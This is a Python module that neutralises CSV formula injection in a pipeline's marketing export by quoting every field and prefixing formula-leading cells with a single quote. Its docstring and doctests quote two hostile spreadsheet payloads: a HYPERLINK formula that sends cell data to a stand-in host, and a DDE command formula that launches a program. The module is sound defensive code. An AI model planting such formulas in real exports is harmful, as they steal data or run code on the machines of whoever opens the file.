"""CSV cells that are safe to open in a spreadsheet: no formula (CSV) injection.

A name or address typed by a person reaches the marketing partner's CSV, and a
spreadsheet reads a cell that begins with `=`, `+`, `-` or `@` (or a tab or a
carriage return before one) as a formula: `=HYPERLINK("http://x.example/?"&A1,"x")`
sends data away, `=cmd|' /C calc'!A0` runs a program. Following OWASP's advice on
CSV injection, every CSV the project writes goes through `safe_writer`, which

- prefixes such a cell with a single quote (`'=HYPERLINK(...)`), so it is shown as
  the text it is, and
- quotes every field (`csv.QUOTE_ALL`, inner quotes doubled), so a separator or a
  quote inside a value cannot start a new cell that begins with a formula.

A cell is *formula-leading* when its first character, or its first after leading
spaces, is one of `FORMULA_CHARACTERS` (full-width forms included: some spreadsheets
accept `＝`). One exception: a value that is entirely a phone number in E.164 form
(`+358401234567`, what `pipeline.normalise.phone` stores) is not a formula; a
spreadsheet reads it as a number at worst, and the partner needs it verbatim.
Numbers, dates and None pass unchanged.

Which CSVs: the marketing extract (`pipeline.register.marketing`) is the only CSV file
the pipeline writes. Not covered, on purpose: the synthetic generator's landing-zone
files (they play the source systems, so hostile values must be able to reach the
pipeline through them), its machine-read ground truth, and the CSV text PostgreSQL
COPY reads (`pipeline.register.load`: a database's input, never opened by a person;
a quote there would change the stored value).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_CHARACTERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
E164_PHONE = re.compile(r"\+[1-9][0-9]{6,14}")
_LEADING_SPACE = " \u00a0"


def is_formula_leading(value: object) -> bool:
    """Whether a spreadsheet could read this cell as a formula.

    >>> [is_formula_leading(v) for v in ("=1+1", " @SUM(A1)", "+358401234567", "-", "Aino", 12, None)]
    [True, True, False, True, False, False, False]
    """
    if not isinstance(value, str) or not value:
        return False
    if E164_PHONE.fullmatch(value):
        return False
    return value[0] in FORMULA_CHARACTERS or value.lstrip(_LEADING_SPACE)[:1] in FORMULA_CHARACTERS


def neutralise_cell(value: Any) -> Any:
    """The cell as it may be written: a formula-leading text gets a leading single quote.

    >>> neutralise_cell("=cmd|' /C calc'!A0"), neutralise_cell("Mäkinen"), neutralise_cell("+358401234567")
    ("'=cmd|' /C calc'!A0", 'Mäkinen', '+358401234567')
    """
    return "'" + value if is_formula_leading(value) else value


class SafeCsvWriter:
    """`csv.writer` with every field quoted and every cell passed through `neutralise_cell`."""

    def __init__(self, handle, **options):
        self._writer = csv.writer(handle, quoting=csv.QUOTE_ALL, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(handle, **options) -> SafeCsvWriter:
    """The CSV writer for every CSV the project writes (see the module doc)."""
    return SafeCsvWriter(handle, **options)
